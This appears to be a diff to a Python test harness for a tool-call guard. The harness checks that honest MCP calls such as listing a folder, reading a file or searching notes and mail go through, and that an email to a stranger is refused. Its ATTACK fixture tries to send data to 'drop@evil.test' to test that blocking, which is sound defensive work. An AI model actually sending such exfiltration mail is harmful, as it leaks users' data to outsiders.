@@ -7,6 +7,7 @@ says to start them; on this machine an ``npx`` of our own starts stand-ins for t
 from __future__ import annotations
 
 import asyncio
+import difflib
 import json
 import os
 import shlex
@@ -41,11 +42,18 @@ esac
 exit 9
 """
 SECONDS: Final = 120.0
+HONEST: Final[tuple[tuple[str, str, Mapping[str, str]], ...]] = (
+    ("files", "list_directory", {"path": "."}),
+    ("files", "read_text_file", {"path": "notes.txt"}),
+    ("notes", "search_nodes", {"query": "x"}),
+    ("mail", "search_emails", {"query": "figures"}),
+)
+"""What the set-up is for: server, tool and arguments."""
 ATTACK: Final = {"to": ["drop@evil.test"], "subject": "figures", "body": "as asked"}
 
 
 def commands_to_block(directory: Path) -> tuple[int, int, list[str]]:
-    """Set a guard up, and return commands typed, lines written by hand, and what was checked.
+    """Set a guard up, and return commands typed, lines of policy written, and what was checked.
 
     Raises:
         GuardError: a command failed, or the guard that came of it does not do its work.
@@ -66,16 +74,61 @@ def commands_to_block(directory: Path) -> tuple[int, int, list[str]]:
         check=False,
     )
     commands.append(_run_line(made.stdout + made.stderr))
-    admin = f"127.0.0.1:{free_port()}"
-    words = ("-m", "guard", *commands[1], "--admin", admin)
+    proposed = _policies(directory)
+    refused = _tried(directory, config, commands[-1], environment)
+    if refused:
+        # What honest work needs and `init` did not see, its user writes, and starts the guard anew.
+        by_hand = directory / "by_hand.yaml"
+        by_hand.write_text(_mappings(refused), encoding="utf-8")
+        commands.append([*commands[-1], "--policy", str(by_hand)])
+        refused = _tried(directory, config, commands[-1], environment)
+    if refused:
+        raise GuardError(f"refused though mapped by hand: {', '.join(refused)}")
+    checked = [*(f"{tool} goes through" for _, tool, _ in HONEST), "mail to a stranger is refused"]
+    return len(commands), lines_written(proposed, _policies(directory)), checked
+
+
+def lines_written(proposed: Mapping[str, str], used: Mapping[str, str]) -> int:
+    """Return how many lines somebody has written into policies.
+
+    Args:
+        proposed: text of each file as ``guard init`` wrote it, by name.
+        used: likewise as the guard that blocks was given it.
+    """
+    written = 0
+    for name, text in used.items():
+        before = proposed.get(name, "").splitlines()
+        for line in difflib.ndiff(before, text.splitlines()):
+            written += line.startswith("+ ")
+    return written
+
+
+def _policies(directory: Path) -> dict[str, str]:
+    return {one.name: one.read_text("utf-8") for one in directory.glob("*.yaml")}
+
+
+def _mappings(tools: Sequence[str]) -> str:
+    """Return a policy that maps tools as reads."""
+    lines = [f"  - {{match: [{json.dumps(tool)}], role: retrieve}}" for tool in tools]
+    return "\n".join(["version: 1", "name: by-hand", "tools:", *lines, ""])
+
+
+def _tried(
+    directory: Path, config: Path, command: Sequence[str], environment: Mapping[str, str]
+) -> list[str]:
+    """Run the guard, use the servers as the client now reaches them; return what was refused.
+
+    Raises:
+        GuardError: the guard does not start, or a mail to a stranger was not refused.
+    """
+    words = ("-m", "guard", *command, "--admin", f"127.0.0.1:{free_port()}")
     running = start(directory / "run.log", *words, environment=environment)
     try:
         running.wait_ready()
         servers = json.loads(config.read_text("utf-8"))["mcpServers"]
-        checked = asyncio.run(_checked(servers, environment))
+        return asyncio.run(_refused(servers, environment))
     finally:
         running.stop()
-    return len(commands), 0, checked
 
 
 def _write_client(directory: Path, config: Path) -> None:
@@ -112,23 +165,22 @@ def _run_line(said: str) -> list[str]:
     raise GuardError(msg)
 
 
-async def _checked(
+async def _refused(
     servers: Mapping[str, Mapping[str, Any]], environment: Mapping[str, str]
 ) -> list[str]:
-    """Use the servers as the client's configuration now says, and return what was seen.
+    """Return the honest calls that are refused.
 
     Raises:
-        GuardError: a read was refused, or a mail to a stranger was not.
+        GuardError: a mail to a stranger is not.
     """
-    reads = await _called(servers["files"], environment, "list_directory", {"path": "."})
-    recalls = await _called(servers["notes"], environment, "search_nodes", {"query": "x"})
-    sends = await _called(servers["mail"], environment, "send_email", ATTACK)
-    if reads.isError or recalls.isError or not sends.isError:
-        msg = (
-            f"reads {reads.isError}, recalls {recalls.isError}, mail to a stranger {sends.isError}"
-        )
-        raise GuardError(msg)
-    return ["a folder is listed", "memory is searched", "mail to a stranger is refused"]
+    refused = [
+        tool
+        for server, tool, arguments in HONEST
+        if (await _called(servers[server], environment, tool, dict(arguments))).isError
+    ]
+    if not (await _called(servers["mail"], environment, "send_email", ATTACK)).isError:
+        raise GuardError("a mail to a stranger went out")
+    return refused
 
 
 async def _called(
